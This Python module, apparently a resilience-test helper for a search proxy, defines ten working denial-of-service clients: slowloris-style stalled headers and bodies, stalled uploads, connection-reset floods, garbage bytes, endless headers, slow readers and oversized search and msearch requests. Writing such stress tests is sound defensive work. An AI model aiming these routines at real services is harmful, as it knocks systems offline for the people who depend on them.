"""What hostile clients do, each until it is told to stop."""

import json
import random
import socket
import struct
from collections.abc import Callable
from contextlib import ExitStack, suppress
from threading import Event

Address = tuple[str, int]
Attack = Callable[[Address, Event], None]

SEARCH = {"query": {"match": {"title": "mouse"}}}
HOST = b"Host: shop\r\n"
JSON = b"Content-Type: application/json\r\n"
PACE_SECONDS = 0.002
"""Between the connections of an attack: attackers on the same machine must leave it some time."""

MANY = 1000


def half_heads(address: Address, stop: Event) -> None:
    """Open many connections that begin a request and never end it."""
    _hold(address, stop, b"GET /shop/_search HTTP/1.1\r\nHost: sh")


def half_bodies(address: Address, stop: Event) -> None:
    """Send many searches whose chunked bodies never end."""
    chunks = b"Transfer-Encoding: chunked\r\n\r\n5\r\nab"
    _hold(address, stop, b"POST /shop/_search HTTP/1.1\r\n" + HOST + JSON + chunks)


def half_uploads(address: Address, stop: Event) -> None:
    """Send searches of nearly 10 MB whose ends never come."""
    head = b"POST /shop/_search HTTP/1.1\r\n" + HOST + JSON + b"Content-Length: 9000000\r\n\r\n"
    with ExitStack() as stack:
        for _ in range(64):
            sock = stack.enter_context(_connected(address))
            sock.settimeout(0.2)
            with suppress(OSError):
                sock.sendall(head)
                for _ in range(80):
                    if stop.is_set():
                        return
                    sock.sendall(b" " * 100_000)
        stop.wait()


def resets(address: Address, stop: Event) -> None:
    """Reset connections, many before they are accepted."""
    while not stop.wait(PACE_SECONDS):
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        with suppress(OSError), sock:
            sock.connect(address)


def noise(address: Address, stop: Event) -> None:
    """Send what is not HTTP."""
    chance = random.Random(1)
    while not stop.wait(PACE_SECONDS):
        with suppress(OSError), _connected(address) as sock:
            sock.sendall(chance.randbytes(chance.randrange(2000)))


def long_heads(address: Address, stop: Event) -> None:
    """Send headers without an end."""
    line = b"X-A: " + b"b" * 1000 + b"\r\n"
    while not stop.wait(PACE_SECONDS):
        with suppress(OSError), _connected(address) as sock:
            sock.sendall(b"GET / HTTP/1.1\r\n" + HOST)
            while not stop.is_set():
                sock.sendall(line)


def hang_ups(address: Address, stop: Event) -> None:
    """Ask what takes OpenSearch long, and hang up at once."""
    while not stop.wait(PACE_SECONDS * 10):
        with suppress(OSError), _connected(address) as sock:
            sock.sendall(b"GET /_cluster/health?wait_for_nodes=9&timeout=40s HTTP/1.1\r\n" + HOST + b"\r\n")


def slow_readers(address: Address, stop: Event) -> None:
    """Ask for large answers and read none of them."""
    with ExitStack() as stack:
        for _ in range(8):
            if stop.is_set():
                return
            sock = stack.enter_context(_connected(address))
            with suppress(OSError):
                sock.sendall(b"PUT /long/_doc?pieces=200 HTTP/1.1\r\n" + HOST + b"Content-Length: 0\r\n\r\n")
        stop.wait()


def huge_searches(address: Address, stop: Event) -> None:
    """Send searches for a text of nearly 10 MB."""
    text = json.dumps({"query": {"match": {"title": "mouse " * 1_600_000}}}).encode()
    _ask(address, stop, b"/shop/_search", text)


def long_lists(address: Address, stop: Event) -> None:
    """Send lists of 1,500 searches."""
    _ask(address, stop, b"/shop/_msearch", (b"{}\n" + json.dumps(SEARCH).encode() + b"\n") * 1500)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(half_heads, half_bodies, half_uploads, resets, noise, long_heads),
        *(hang_ups, slow_readers, huge_searches, long_lists),
    )
}


def _hold(address: Address, stop: Event, start: bytes) -> None:
    with ExitStack() as stack:
        for _ in range(MANY):
            if stop.is_set():
                return
            with suppress(OSError):
                stack.enter_context(_connected(address)).sendall(start)
        stop.wait()


def _ask(address: Address, stop: Event, path: bytes, body: bytes) -> None:
    head = b"POST " + path + b" HTTP/1.1\r\n" + HOST + b"Connection: close\r\n" + JSON
    while not stop.wait(PACE_SECONDS):
        with suppress(OSError), _connected(address) as sock:
            sock.sendall(head + b"Content-Length: %d\r\n\r\n" % len(body) + body)
            while sock.recv(1 << 20):
                pass


def _connected(address: Address) -> socket.socket:
    return socket.create_connection(address, timeout=5)
